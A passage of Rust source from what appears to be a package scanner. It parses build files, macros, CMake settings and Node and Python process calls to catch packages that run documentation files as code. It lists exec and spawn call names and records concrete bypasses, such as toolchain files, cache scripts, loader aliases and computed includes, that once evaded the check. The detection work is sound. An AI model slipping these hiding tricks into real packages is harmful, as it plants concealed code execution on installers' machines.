    let mut i = 0;
    while i < rest.len() {
        match rest[i] {
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' if depth == 0 => return Some(i),
            b')' | b']' | b'}' => depth -= 1,
            b'#' => i += memchr::memchr(b'\n', &rest[i..]).unwrap_or(rest.len() - i),
            q @ (b'\'' | b'"') => {
                i += 1;
                while i < rest.len() && rest[i] != q && rest[i] != b'\n' {
                    i += if rest[i] == b'\\' { 2 } else { 1 };
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// The strings of a Python list or tuple of string literals at the start
/// of `value` (`["-C", 'linker=cc']`); `None` when it is anything else (a
/// name, a call, an f-string, a list holding code).
fn python_strings(value: &[u8]) -> Option<Vec<String>> {
    let inner = value
        .strip_prefix(b"[")
        .or_else(|| value.strip_prefix(b"("))?;
    let inner = &inner[..bracket_end(inner)?];
    let mut out = Vec::new();
    for piece in top_level_pieces(inner) {
        let piece = piece.trim_ascii();
        if piece.is_empty() {
            continue;
        }
        out.push(python_string(piece)?);
    }
    Some(out)
}

/// The text of a piece that is one plain Python string literal (`'x'`,
/// `r"x"`), or `None`.
fn python_string(piece: &[u8]) -> Option<String> {
    let prefix = prefix_len(piece);
    if piece[..prefix].iter().any(|b| matches!(b, b'f' | b'F')) {
        return None;
    }
    let (pieces, code) = literals(piece);
    match (pieces.as_slice(), code) {
        ([(text, true)], false) => Some(text.clone()),
        _ => None,
    }
}

/// The entries of a Python dict literal at the start of `value` whose keys
/// are string literals (`{"CC": "gcc", "PATH": os.environ["PATH"]}`), each
/// value kept when it is a string literal; `None` when `value` is not such
/// a dict (`os.environ.copy()`, `dict(os.environ, CC=…)`).
fn python_dict(value: &[u8]) -> Option<Vec<(String, Option<String>)>> {
    let inner = value.strip_prefix(b"{")?;
    let inner = &inner[..bracket_end(inner)?];
    let mut out = Vec::new();
    for piece in top_level_pieces(inner) {
        let piece = piece.trim_ascii();
        if piece.is_empty() {
            continue;
        }
        let colon = first_outside_strings(piece, b':')?;
        let key = python_string(piece[..colon].trim_ascii())?;
        let text = piece[colon + 1..].trim_ascii();
        if inherited(&key, text) {
            continue;
        }
        out.push((key, python_string(text)));
    }
    Some(out)
}

/// The pieces of a Python list's, tuple's or dict's text between its
/// top-level commas (outside brackets and string literals).
fn top_level_pieces(inner: &[u8]) -> Vec<&[u8]> {
    let mut out = Vec::new();
    let (mut start, mut i) = (0, 0);
    while i < inner.len() {
        if inner[i] == b',' {
            out.push(&inner[start..i]);
            start = i + 1;
        } else if matches!(inner[i], b'(' | b'[' | b'{') {
            let rest = &inner[i + 1..];
            i += bracket_end(rest).map_or(rest.len(), |e| e + 1);
        } else if let q @ (b'\'' | b'"') = inner[i] {
            i += 1;
            while i < inner.len() && inner[i] != q {
                i += if inner[i] == b'\\' { 2 } else { 1 };
            }
        }
        i += 1;
    }
    out.push(&inner[start.min(inner.len())..]);
    out
}

/// Whether `value` is the user's own value of the variable `name`, passed
/// on as it is (`os.environ["PATH"]`, `os.environ.get("PATH", "")`,
/// `os.getenv('PATH')`): nothing of the package's.
fn inherited(name: &str, value: &[u8]) -> bool {
    static RE: OnceLock<Regex> = OnceLock::new();
    let re = RE.get_or_init(|| {
        Regex::new(
            r#"^os\.(?:environ\s*\[\s*["'](\w+)["']\s*\]|(?:environ\.get|getenv)\s*\(\s*["'](\w+)["']\s*(?:,\s*["'][^"']*["']\s*)?\))$"#,
        )
        .expect("the inherited variable pattern compiles")
    });
    re.captures(value)
        .and_then(|c| c.get(1).or_else(|| c.get(2)))
        .is_some_and(|m| m.as_bytes() == name.as_bytes())
}

/// The index of the first `end` byte outside string literals in `piece`.
fn first_outside_strings(piece: &[u8], end: u8) -> Option<usize> {
    let mut i = 0;
    while i < piece.len() {
        match piece[i] {
            b if b == end => return Some(i),
            q @ (b'\'' | b'"') => {
                i += 1;
                while i < piece.len() && piece[i] != q {
                    i += if piece[i] == b'\\' { 2 } else { 1 };
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// A flag's argument at `at` (just past the flag's name): joined to it
/// (`-includedocs/notes.txt`, `-specs=FILE`), or else the next argument,
/// past blanks, quotes and a comma (`'-include', 'docs/notes.txt'`),
/// up to the next blank, quote, comma or bracket; `None` when there is
/// none.
fn flag_value(data: &[u8], at: usize) -> Option<&[u8]> {
    let ends = |b: &u8| {
        matches!(
            b,
            b' ' | b'\t' | b'\n' | b'\r' | b'"' | b'\'' | b',' | b']' | b')' | b'}' | b';'
        )
    };
    let rest = &data[at..data.len().min(at + 1024)];
    let rest = rest.strip_prefix(b"=").unwrap_or(rest);
    let joined = &rest[..rest.iter().position(ends).unwrap_or(rest.len())];
    if !joined.is_empty() {
        return Some(joined);
    }
    let skip = rest
        .iter()
        .take(16)
        .position(|b| !matches!(b, b' ' | b'\t' | b'\n' | b'\r' | b'"' | b'\'' | b','))?;
    let next = &rest[skip..];
    let value = &next[..next.iter().position(ends).unwrap_or(next.len())];
    (!value.is_empty()).then_some(value)
}

/// `-wrapper`'s argument at `at` as a report shows it: up to the quote or
/// line end that closes it (it holds blanks: `sh,-c,touch /tmp/x`), at
/// most 80 characters.
fn shown_argument(data: &[u8], at: usize) -> String {
    let rest = &data[at..data.len().min(at + 1024)];
    let start = rest
        .iter()
        .position(|b| !matches!(b, b' ' | b'\t' | b'"' | b'\'' | b',' | b'='))
        .unwrap_or(rest.len());
    let arg = &rest[start..];
    let arg = &arg[..arg
        .iter()
        .position(|b| matches!(b, b'"' | b'\'' | b'\n' | b'\r'))
        .unwrap_or(arg.len())];
    String::from_utf8_lossy(arg).chars().take(80).collect()
}

/// Whether `path` (`lower`, its lowercased name) is a Rust source in a
/// crate's `benches` or `examples` folder, which Cargo does not build for
/// a library or its build script (jiter's benchmarks take a module from
/// its `tests/`).
fn cargo_leaves_unbuilt(path: &str, lower: &str) -> bool {
    extension(lower) == "rs"
        && path
            .split('/')
            .rev()
            .skip(1)
            .any(|d| d == "benches" || d == "examples")
}

/// An included file's name as [`searched_includes`] keeps it: lowercased,
/// `\` read as `/`, leading `./` and `../` dropped; `None` when nothing
/// is left or it names a folder.
fn include_name(raw: &[u8]) -> Option<String> {
    let raw = std::str::from_utf8(raw).ok()?;
    let mut n = raw.trim().replace('\\', "/").to_lowercase();
    let dots = n.len() - undotted(n.trim_start_matches('/')).len();
    n.drain(..dots);
    (!n.is_empty() && !n.ends_with('/')).then_some(n)
}

/// The macros a C-family source outside a test tree includes by (a
/// computed include, `#include NAME`), sorted, each once. C expands the
/// macro and includes the file its value names, so `#define N
/// "notes.txt"` then `#include N`, or `#include N` built with
/// `define_macros=[('N', '"notes.txt"')]`, compiles the notes as
/// [`searched_includes`]' names do: the caller looks the macros up among
/// the values files give them ([`include_macros`]).
/// At most [`MAX_MACROS`] + 1 of them (the caller fails closed past
/// [`MAX_MACROS`]).
pub fn computed_includes(path: &str, data: &[u8]) -> Vec<String> {
    static RE: OnceLock<Regex> = OnceLock::new();
    let lower = file_name(path).1;
    if super::render::in_test_tree(path) || source_language(&lower) != Some(SourceLanguage::C) {
        return Vec::new();
    }
    let re = RE.get_or_init(|| {
        Regex::new(r"#[ \t]*(?:include|include_next|import)[ \t]+([A-Za-z_][A-Za-z0-9_]*)")
            .expect("the computed include pattern compiles")
    });
    let mut macros: Vec<String> = re
        .captures_iter(data)
        .filter(|c| at_line_start(data, c.get(0).map_or(0, |m| m.start())))
        .filter_map(|c| std::str::from_utf8(&c[1]).ok().map(str::to_string))
        .take(MAX_MACROS + 1)
        .collect();
    macros.sort_unstable();
    macros.dedup();
    macros
}

/// How many macros a package's sources include by, and how many values
/// naming documents its files give macros, that are followed; past
/// either, the package is not cleared (a crafted file of a million
/// definitions cost 3 s and 450 MB to follow).
pub const MAX_MACROS: usize = 10_000;

/// (macro, file name) for each value a file gives a macro that names a
/// document (`"FILE"` or `<FILE>` whose name is documentation's or
/// data's, outside a test tree: only a document is matched, and a
/// string such as an error message names none; the name kept as
/// [`searched_includes`] keeps it), at most [`MAX_MACROS`] + 1: a C-family source's `#define NAME … "FILE"` (any source, a
/// test tree's too: a header anywhere can define it), and a root
/// manifest's or a build script's `-DNAME="FILE"`, `NAME=<FILE>` (CMake's
/// and Meson's definitions) or `('NAME', '"FILE"')` (setuptools'
/// `define_macros`, also as a TOML array).
pub fn include_macros(path: &str, data: &[u8]) -> Vec<(String, String)> {
    static DEFINE: OnceLock<Regex> = OnceLock::new();
    static LITERAL: OnceLock<Regex> = OnceLock::new();
    static BUILD: OnceLock<Regex> = OnceLock::new();
    let lower = file_name(path).1;
    let literal = LITERAL.get_or_init(|| {
        Regex::new(r#""([^"\n]+)"|<([^>\n]+)>"#).expect("the literal pattern compiles")
    });
    let mut out: Vec<(String, String)> = Vec::new();
    let mut keep = |name: &[u8], value: &[u8]| {
        if out.len() > MAX_MACROS {
            return;
        }
        let document = |v: &String| super::render::is_inert(v) && !super::render::in_test_tree(v);
        if let (Ok(name), Some(value)) = (
            std::str::from_utf8(name),
            include_name(value).filter(document),
        ) {
            out.push((name.to_string(), value));
        }
    };
    if source_language(&lower) == Some(SourceLanguage::C) {
        let re = DEFINE.get_or_init(|| {
            Regex::new(r"#[ \t]*define[ \t]+([A-Za-z_][A-Za-z0-9_]*)([^\n]*)")
                .expect("the define pattern compiles")
        });
        for c in re.captures_iter(data) {
            if !at_line_start(data, c.get(0).map_or(0, |m| m.start())) {
                continue;
            }
            for v in literal.captures_iter(&c[2]) {
                if let Some(v) = v.get(1).or_else(|| v.get(2)) {
                    keep(&c[1], v.as_bytes());
                }
            }
        }
    } else if super::render::build_script(&lower).is_some()
        || matches!(lower.as_str(), "setup.py" | "setup.cfg" | "pyproject.toml")
    {
        let re = BUILD.get_or_init(|| {
            Regex::new(
                r#"(?:[(\[][ \t]*['"]([A-Za-z_][A-Za-z0-9_]*)['"][ \t]*,[ \t]*['"]|(?:-D[ \t]*|\b)([A-Za-z_][A-Za-z0-9_]*)=)\\*(?:"([^"<>\n\\]+)|<([^<>\n\\]+)>)"#,
            )
            .expect("the definition pattern compiles")
        });
        for c in re.captures_iter(data) {
            let name = c.get(1).or_else(|| c.get(2));
            let value = c.get(3).or_else(|| c.get(4));
            if let (Some(n), Some(v)) = (name, value) {
                keep(n.as_bytes(), v.as_bytes());
            }
        }
    }
    out.sort_unstable();
    out.dedup();
    out
}

/// `name` after its leading `./` and `../`.
fn undotted(mut name: &str) -> &str {
    while let Some(rest) = name.strip_prefix("./").or_else(|| name.strip_prefix("../")) {
        name = rest;
    }
    name
}

/// The CMake script scikit-build-core builds when a `pyproject.toml`
/// (`code`) names a folder for it (`[tool.scikit-build]
/// cmake.source-dir = "DIR"`): (false, `DIR/CMakeLists.txt`); and the
/// scripts its settings make CMake run ([`scikit_build_scripts`]).
fn scikit_build_source(code: &Code) -> Vec<(bool, String)> {
    let Some(skbuild) = code.toml().and_then(|t| t.get("tool")?.get("scikit-build")) else {
        return Vec::new();
    };
    let dir = skbuild
        .get("cmake")
        .and_then(|c| c.get("source-dir")?.as_str());
    let mut out = match dir {
        Some(d) if !d.contains('$') => {
            vec![(false, format!("{}/CMakeLists.txt", d.trim_end_matches('/')))]
        }
        _ => Vec::new(),
    };
    // The settings themselves, and each override's (`[[tool.scikit-build.
    // overrides]]`, applied when its `if` holds, which cannot be known
    // here).
    let overrides = skbuild.get("overrides").and_then(toml::Value::as_array);
    let cmakes = std::iter::once(skbuild)
        .chain(overrides.into_iter().flatten())
        .filter_map(|t| t.get("cmake"));
    for cmake in cmakes {
        out.extend(scikit_build_scripts(cmake).into_iter().map(|p| (false, p)));
    }
    out
}

/// The files a scikit-build-core `cmake` table (`cmake`) makes CMake run
/// as scripts, named by a literal path: `-C FILE` among its `args` (an
/// initial cache script, run before the project's), and a CMake variable
/// that names a script CMake runs ([`cmake_script_variable`]) among its
/// `args` (`-DVAR=FILE`, `-DVAR:TYPE=FILE`, `--toolchain FILE`) or its
/// `define` table. tomli built by scikit-build-core 1.1 with `cmake.args =
/// ["-C", "docs/notes.txt"]`, or `cmake.define = {CMAKE_TOOLCHAIN_FILE =
/// "docs/notes.txt"}`, ran the document's `execute_process` at `pip
/// wheel`, and the shipped gate allowed it (session 46). A value built
/// from a variable (`$`) is not followed. `cmake.toolchain-file` is not
/// read: scikit-build-core refuses it in a `pyproject.toml`.
fn scikit_build_scripts(cmake: &toml::Value) -> Vec<String> {
    // `VAR=VALUE` or `VAR:TYPE=VALUE`: the value when VAR names a script.
    fn define(d: &str) -> Option<&str> {
        let (var, value) = d.split_once('=')?;
        let var = var.split_once(':').map_or(var, |(v, _)| v).trim();
        cmake_script_variable(var).then_some(value)
    }
    let mut out = Vec::new();
    let mut keep = |v: &str| out.extend(cmake_script_list(v, |p| p).map(str::to_string));
    let args: Vec<&str> = cmake
        .get("args")
        .and_then(toml::Value::as_array)
        .into_iter()
        .flatten()
        .filter_map(toml::Value::as_str)
        .collect();
    let mut words = args.iter().map(|a| a.trim());
    while let Some(word) = words.next() {
        let script = match word {
            "-C" | "--toolchain" => words.next(),
            "-D" => words.next().and_then(define),
            w => w
                .strip_prefix("--toolchain=")
                .or_else(|| w.strip_prefix("-C"))
                .or_else(|| w.strip_prefix("-D").and_then(define)),
        };
        if let Some(s) = script {
            keep(s);
        }
    }
    let defines = cmake.get("define").and_then(toml::Value::as_table);
    for (var, value) in defines.into_iter().flatten() {
        if !cmake_script_variable(var) {
            continue;
        }
        match value {
            toml::Value::String(v) => keep(v),
            toml::Value::Array(items) => {
                items.iter().filter_map(|i| i.as_str()).for_each(&mut keep)
            }
            _ => {}
        }
    }
    out
}

/// The scripts a CMake presets file (`CMakePresets.json`,
/// `CMakeUserPresets.json`) makes CMake run when a build picks one of its
/// configure presets (`--preset NAME`, which scikit-build-core's
/// `cmake.args` can give): each preset's `toolchainFile`, and its
/// `cacheVariables` that name a script ([`cmake_script_variable`]), as a
/// string or as `{"value": …}`. tomli so built ran a document named by
/// either (session 46). `${sourceDir}/` is the presets file's folder;
/// a path built from any other macro or variable is not followed. Every
/// presets file counts, whether or not the build picks a preset: which
/// one it picks can come from the command line.
fn cmake_preset_scripts(data: &[u8]) -> Vec<(bool, String)> {
    let Ok(json) = serde_json::from_slice::<serde_json::Value>(data) else {
        return Vec::new();
    };
    let presets = json
        .get("configurePresets")
        .and_then(serde_json::Value::as_array);
    let mut out = Vec::new();
    let mut keep = |v: &str| {
        fn source_dir(p: &str) -> &str {
            p.strip_prefix("${sourceDir}/").unwrap_or(p)
        }
        out.extend(cmake_script_list(v, source_dir).map(|p| (false, p.to_string())));
    };
    for preset in presets.into_iter().flatten() {
        if let Some(t) = preset.get("toolchainFile").and_then(|t| t.as_str()) {
            keep(t);
        }
        let vars = preset
            .get("cacheVariables")
            .and_then(serde_json::Value::as_object);
        for (var, value) in vars.into_iter().flatten() {
            if !cmake_script_variable(var) {
                continue;
            }
            let value = value.as_str().or_else(|| value.get("value")?.as_str());
            if let Some(v) = value {
                keep(v);
            }
        }
    }
    out
}

/// The paths in a CMake value naming scripts (a list of them, such as
/// `CMAKE_PROJECT_TOP_LEVEL_INCLUDES`, is `;`-separated), each trimmed and
/// passed through `resolve` (a presets file's `${sourceDir}/`), then
/// kept unless empty or built from a variable or macro (`$`).
fn cmake_script_list<'a>(
    value: &'a str,
    resolve: impl Fn(&'a str) -> &'a str,
) -> impl Iterator<Item = &'a str> {
    value
        .split(';')
        .map(move |p| resolve(p.trim()))
        .filter(|p| !p.is_empty() && !p.contains('$'))
}

/// Whether a CMake variable names a script CMake runs: the toolchain
/// file (read before the first `project()`), the files `project()`
/// includes (`CMAKE_PROJECT_INCLUDE`, `…_INCLUDE_BEFORE`,
/// `CMAKE_PROJECT_TOP_LEVEL_INCLUDES`, `CMAKE_PROJECT_<NAME>_INCLUDE` and
/// `…_INCLUDE_BEFORE`), and the rules files enabling a language includes
/// (`CMAKE_USER_MAKE_RULES_OVERRIDE`, `…_<LANG>`).
fn cmake_script_variable(var: &str) -> bool {
    let var = var.to_ascii_uppercase();
    var == "CMAKE_TOOLCHAIN_FILE"
        || var.starts_with("CMAKE_USER_MAKE_RULES_OVERRIDE")
        || (var.starts_with("CMAKE_PROJECT_")
            && ["_INCLUDE", "_INCLUDE_BEFORE", "_INCLUDES"]
                .iter()
                .any(|s| var.ends_with(s)))
}

/// The files make's `include`, `-include` and `sinclude` lines in `data`
/// name: (false, the path). Recipe lines (after a tab) are the shell's.
fn make_includes(data: &[u8]) -> Vec<(bool, String)> {
    let mut out = Vec::new();
    for line in data.split(|&b| b == b'\n') {
        let line = &line[line.iter().take_while(|b| **b == b' ').count()..];
        let Some(rest) = [&b"include"[..], b"-include", b"sinclude"]
            .iter()
            .find_map(|d| line.strip_prefix(*d))
        else {
            continue;
        };
        if !matches!(rest.first(), Some(b' ' | b'\t')) {
            continue;
        }
        let words = rest
            .split(|b| b.is_ascii_whitespace())
            .filter(|w| !w.is_empty());
        for w in words.take_while(|w| w[0] != b'#') {
            match std::str::from_utf8(w) {
                Ok(w) if !w.contains('$') => out.push((false, w.to_string())),
                _ => {}
            }
        }
    }
    out
}

/// The files GYP's `'includes': [...]` lists in `data` name: (false, the
/// path).
fn gyp_includes(data: &[u8]) -> Vec<(bool, String)> {
    let mut out = Vec::new();
    for key in [&b"'includes'"[..], b"\"includes\""] {
        for at in memchr::memmem::find_iter(data, key) {
            let rest = &data[at + key.len()..];
            let rest = rest.trim_ascii_start();
            let Some(rest) = rest.strip_prefix(b":") else {
                continue;
            };
            let rest = rest.trim_ascii_start();
            let Some(rest) = rest.strip_prefix(b"[") else {
                continue;
            };
            // A list of at most 4 KB: unclosed lists cost no more each.
            let Some(close) = memchr::memchr(b']', &rest[..rest.len().min(4096)]) else {
                continue;
            };
            let (lits, _) = literals(&rest[..close]);
            out.extend(lits.into_iter().map(|(l, _)| (false, l)));
        }
    }
    out
}

/// The arguments of a call that are a bare name (`p`, not `p.x` or
/// `f(p)`), by position: the first for a loader (the file it runs), each
/// for a process runner (`[sys.executable, script]`).
fn named_arguments<'a>(call: Call, args: &[&'a [u8]]) -> Vec<(usize, &'a [u8])> {
    let take = if call == Call::Program { args.len() } else { 1 };
    args.iter()
        .copied()
        .take(take)
        .enumerate()
        .filter(|(_, a)| is_bare_name(a))
        .collect()
}

/// Whether `a` is a name alone: word bytes, not starting with a digit.
fn is_bare_name(a: &[u8]) -> bool {
    a.first().is_some_and(|b| !b.is_ascii_digit()) && a.iter().all(|&b| is_word_byte(b))
}

/// The argument lists a call would have with one of its [`named_arguments`]
/// replaced by an expression the file assigns to that name, each such
/// replacement once (at most [`MAX_HELD_VARIANTS`] a call).
fn with_held_values(
    call: Call,
    args: &[&[u8]],
    held: &std::collections::HashMap<&[u8], Vec<&[u8]>>,
) -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    for (at, name) in named_arguments(call, args) {
        for value in held.get(name).into_iter().flatten() {
            if out.len() == MAX_HELD_VARIANTS {
                return out;
            }
            // A loader runs its first argument: the others add nothing,
            // and without them every call given the name reads alike.
            if call != Call::Program {
                out.push(value.to_vec());
                continue;
            }
            let mut variant = Vec::new();
            for (i, a) in args.iter().enumerate() {
                if i > 0 {
                    variant.extend_from_slice(b", ");
                }
                variant.extend_from_slice(if i == at { value } else { a });
            }
            out.push(variant);
        }
    }
    out
}

/// How many argument lists [`with_held_values`] makes for one call: a
/// name assigned more often than that is assigned in a loop or by a
/// generator, not given a path to run.
const MAX_HELD_VARIANTS: usize = 64;

/// How many argument lists with names replaced one file gets read: the
/// cost stays linear in the file whatever its calls and names. A file of
/// more is a generated one, not a package's code; past this, calls are
/// read as written only.
const MAX_HELD_READINGS: usize = 16_384;

/// For each of `names`, the expressions `data` assigns to it (`p = …`,
/// `const p = …`, a default `p='…'`), each to the end of its statement
/// ([`statement_value`]). A comparison (`==`, `<=`, `!=`), an arrow
/// (`=>`), an update (`+=`) and an attribute (`o.p = …`) are not
/// assignments to a name. One pass over the file's `=` signs.
fn assignments<'a>(
    data: &'a [u8],
    names: &std::collections::HashSet<&[u8]>,
) -> std::collections::HashMap<&'a [u8], Vec<&'a [u8]>> {
    let mut out: std::collections::HashMap<&[u8], Vec<&[u8]>> = Default::default();
    for eq in memchr::memchr_iter(b'=', data) {
        if matches!(data.get(eq + 1), Some(b'=' | b'>')) {
            continue;
        }
        if eq > 0 && b"=!<>+-*/%&|^:~?.".contains(&data[eq - 1]) {
            continue;
        }
        let mut end = eq;
        while end > 0 && matches!(data[end - 1], b' ' | b'\t') {
            end -= 1;
        }
        let mut start = end;
        while start > 0 && is_word_byte(data[start - 1]) {
            start -= 1;
        }
        let name = &data[start..end];
        if name.is_empty() || !names.contains(name) || (start > 0 && data[start - 1] == b'.') {
            continue;
        }
        if let Some(value) = statement_value(&data[eq + 1..]) {
            out.entry(name).or_default().push(value);
        }
    }
    out
}

/// The expression after an assignment's `=`: up to a `;`, a `,` or a line
/// break outside brackets and string literals, or a closing bracket that
/// was not opened (the end of a default argument); `None` when none comes
/// within 512 bytes (a value that long is not a path).
fn statement_value(rest: &[u8]) -> Option<&[u8]> {
    match end_outside(rest, b";,\n") {
        Some(i) => Some(trim_brackets(&rest[..i])),
        None => (rest.len() <= 512).then(|| trim_brackets(rest)),
    }
}

/// Where the code at the start of `rest` ends: the index of the first byte,
/// outside string literals and the brackets opened in `rest`, that closes
/// a bracket `rest` did not open or is one of `ends`; `None` when none
/// comes within 512 bytes. What [`call_argument`] and [`statement_value`]
/// read with.
fn end_outside(rest: &[u8], ends: &[u8]) -> Option<usize> {
    let end = rest.len().min(512);
    let mut depth = 0usize;
    let mut i = 0;
    while i < end {
        match rest[i] {
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' if depth == 0 => return Some(i),
            b')' | b']' | b'}' => depth -= 1,
            b if depth == 0 && ends.contains(&b) => return Some(i),
            q @ (b'\'' | b'"' | b'`') => {
                i += 1;
                while i < end && rest[i] != q {
                    i += if rest[i] == b'\\' { 2 } else { 1 };
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// The names a JavaScript file gives Node's loader: assigned `require`
/// itself (`const load = require;`) or what `createRequire(…)` returns
/// (`const r = module.createRequire(__filename)`). is-number whose
/// `index.js` loaded `docs/notes.txt` through either was allowed by every
/// rule (session 33): the call was not named `require`. At most 16.
fn loader_aliases(data: &[u8]) -> Vec<&[u8]> {
    static ASSIGN: std::sync::OnceLock<regex::bytes::Regex> = std::sync::OnceLock::new();
    let assign = ASSIGN.get_or_init(|| {
        regex::bytes::RegexBuilder::new(
            r#"(?:^|[^\w$.])(?P<name>[A-Za-z_$][\w$]*)\s*=\s*(?:require\s*(?:[;,)]|$)|(?:[\w$]+\s*\.\s*|require\s*\(\s*['"](?:node:)?module['"]\s*\)\s*\.\s*)*createRequire\s*\()"#,
        )
        .unicode(false)
        .multi_line(true)
        .build()
        .expect("loader alias pattern compiles")
    });
    let mut names: Vec<&[u8]> = Vec::new();
    for c in assign.captures_iter(data) {
        let Some(name) = c.name("name") else { continue };
        if !names.contains(&name.as_bytes()) {
            names.push(name.as_bytes());
        }
        if names.len() == 16 {
            break;
        }
    }
    names
}

/// `createRequire(…)(`: the loader made and called at once (the match ends
/// after the second `(`).
fn created_and_called() -> &'static regex::bytes::Regex {
    static RE: std::sync::OnceLock<regex::bytes::Regex> = std::sync::OnceLock::new();
    RE.get_or_init(|| {
        regex::bytes::RegexBuilder::new(r"\bcreateRequire\s*\((?:[^()]|\([^()]*\))*\)\s*\(")
            .unicode(false)
            .build()
            .expect("createRequire pattern compiles")
    })
}

/// The names of Node's calls that load or run a file.
const JS_CALLS: &[&[u8]] = &[
    b"require",
    b"fork",
    b"Worker",
    b"_load",
    b"spawn",
    b"spawnSync",
    b"exec",
    b"execSync",
    b"execFile",
    b"execFileSync",
    b"execa",
    b"execaSync",
    b"execaNode",
    // `cluster.setupPrimary({ exec: path })`: what `cluster.fork()` runs.
    b"setupPrimary",
    b"setupMaster",
];

/// The names of Python's calls that run a program or a file.
const PY_CALLS: &[&[u8]] = &[
    b"run",
    b"call",
    b"check_call",
    b"check_output",
    b"Popen",
    b"getoutput",
    b"getstatusoutput",
    b"system",
    b"popen",
    b"execl",
    b"execle",
    b"execlp",
    b"execlpe",
    b"execv",
    b"execve",
    b"execvp",
    b"execvpe",
    b"spawnl",
    b"spawnle",
    b"spawnlp",
    b"spawnlpe",
    b"spawnv",
    b"spawnve",
    b"spawnvp",
    b"spawnvpe",
    b"posix_spawn",
    b"posix_spawnp",
    b"startfile",
    b"run_path",
];

/// The bytes of a call's argument list, after its `(` and up to its
/// closing `)`, skipping parentheses inside string literals; `None` when
/// it does not close within 512 bytes.
fn call_argument(after_open: &[u8]) -> Option<&[u8]> {
    let close = end_outside(after_open, b"")?;
    (after_open[close] == b')').then(|| &after_open[..close])
}

/// The paths an argument list spells: (from the calling file's folder,
/// from the package's root).
fn argument_paths(arg: &[u8], call: Call) -> (Vec<String>, Vec<String>) {
    if call == Call::Program {
        let found = script_paths(arg);
        return (found.clone(), found);
    }
    let (pieces, other_code) = literals(arg);
    let relative = |p: &str| p.starts_with("./") || p.starts_with("../");
    let mut from_dir: Vec<String> = pieces
        .iter()
        .filter(|(p, whole)| *whole && relative(p))
        .map(|(p, _)| p.clone())
        .collect();
    // Two whole relative paths are alternatives, not parts of one path.
    if (other_code || pieces.len() > 1) && from_dir.len() < 2 {
        if let Some(joined) = joined(&pieces) {
            from_dir.push(joined);
        }
    }
    // A forked or worker file's relative path is from wherever the program
    // runs: a package's scripts run from its root.
    let mut from_root = if call == Call::File {
        from_dir.clone()
    } else {
        Vec::new()
    };
    // A package's own file required by its name (`require('is-number/
    // docs/notes.txt')`, which Node finds in the package's own folder
    // once installed): read from the root, without the name. Another
    // package's file by the same path is rare, and a path is kept only
    // if it names a member read as documentation or data.
    if let [(spec, true)] = &pieces[..] {
        if let Some(rest) = self_reference(spec) {
            from_root.push(format!("./{rest}"));
        }
    }
    (from_dir, from_root)
}

/// The path inside its package of a bare specifier that names a file of
/// one by its extension (`name/docs/a.txt`, `@scope/name/a.md`): that
/// path, or `None` for a relative or absolute path, a Node built-in
/// (`node:fs`), a package name alone or with a folder (`lodash/fp`), or a
/// first part that is no package name.
fn self_reference(spec: &str) -> Option<&str> {
    let skip = if spec.starts_with('@') { 2 } else { 1 };
    let mut parts = spec.splitn(skip + 1, '/');
    for _ in 0..skip {
        let name = parts.next()?;
        let name = name.strip_prefix('@').unwrap_or(name);
        let valid = name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"-._~".contains(&b));
        if name.is_empty() || name.starts_with(['.', '_']) || !valid {
            return None;
        }
    }
    parts
        .next()
        .filter(|rest| file_name(rest).1.contains('.') && !rest.ends_with('/'))
}

/// The literals' path parts joined as one relative path.
fn joined(pieces: &[(String, bool)]) -> Option<String> {
    let parts: Vec<&str> = pieces
        .iter()
        .flat_map(|(p, _)| p.split('/'))
        .filter(|c| !c.is_empty() && *c != ".")
        .collect();
    (!parts.is_empty()).then(|| format!("./{}", parts.join("/")))
}

/// One argument of a program runner, as [`script_paths`] reads it.
#[derive(Debug, PartialEq)]
enum Token {
    /// An interpreter: a word naming one, or `process.execPath` or
    /// `sys.executable` in code.
    Interpreter,
    /// A word of a literal, or an argument's literals joined as a path.
    Word(String),
    /// An argument with no literal.
    Code,
}

/// The paths an interpreter is given as the script to run, in a program
/// runner's arguments: the first word after `node`, `python`, `sh` (and
/// their kin, by name or as `process.execPath` and `sys.executable`) that
/// is not an option, unless `-m`, `-c`, `-e` or the like comes first (a
/// module or code, not a file, runs); and the program itself when it is a
/// relative path (`./docs/run.txt`). A file given to another program
/// (`doc8 README.rst`, `git commit lastsync.txt`) is its data, not a
/// script.
fn script_paths(arg: &[u8]) -> Vec<String> {
    script_paths_in(&program_tokens(arg))
}

/// [`script_paths`] of a command already split into tokens.
fn script_paths_in(tokens: &[Token]) -> Vec<String> {
    let mut out = Vec::new();
    if let Some(Token::Word(w)) = tokens.first() {
        if w.starts_with("./") || w.starts_with("../") {
            out.push(w.clone());
        }
    }
    let mut after_interpreter = false;
    for t in tokens {
        match t {
            Token::Interpreter => after_interpreter = true,
            Token::Word(w) if after_interpreter && w.starts_with('-') => {
                // Code or a module runs, not a file.
                if matches!(
                    w.as_str(),
                    "-m" | "-c" | "-e" | "-p" | "--eval" | "--print" | "-command" | "-Command"
                ) {
                    after_interpreter = false;
                }
            }
            Token::Word(w) if after_interpreter => {
                out.push(w.clone());
                after_interpreter = false;
            }
            _ => after_interpreter = false,
        }
    }
    out
}

/// A program runner's arguments as tokens: the arguments are split at
/// their commas (an array's brackets are only grouping); an argument made
/// of literals alone is split into its words (a shell command line), one
/// that builds a path from literals and code (`os.path.join(HERE,
/// 'x.txt')`) is one word, their parts joined.
fn program_tokens(arg: &[u8]) -> Vec<Token> {
    let mut tokens = Vec::new();
    for element in split_arguments(arg) {
        let (pieces, other_code) = literals(element);
        if !pieces.is_empty() && !other_code {
            // A command line: one literal, a template's parts or literals
            // side by side.
            let line: Vec<&str> = pieces.iter().map(|(p, _)| p.as_str()).collect();
            for w in line.join(" ").split_ascii_whitespace() {
                tokens.push(if interpreter(w) {
                    Token::Interpreter
                } else {
                    Token::Word(w.to_string())
                });
            }
        } else if interpreter(&String::from_utf8_lossy(element)) {
            tokens.push(Token::Interpreter);
        } else if let Some(j) = joined(&pieces) {
            // `./` only if the path began so: a word is the program itself
            // only then.
            let own = pieces
                .first()
                .is_some_and(|(p, _)| p.starts_with("./") || p.starts_with("../"));
            let j = if own { j } else { j[2..].to_string() };
            tokens.push(Token::Word(j));
        } else {
            tokens.push(Token::Code);
        }
    }
    tokens
}

/// Whether a word names a program that runs a file given to it as code
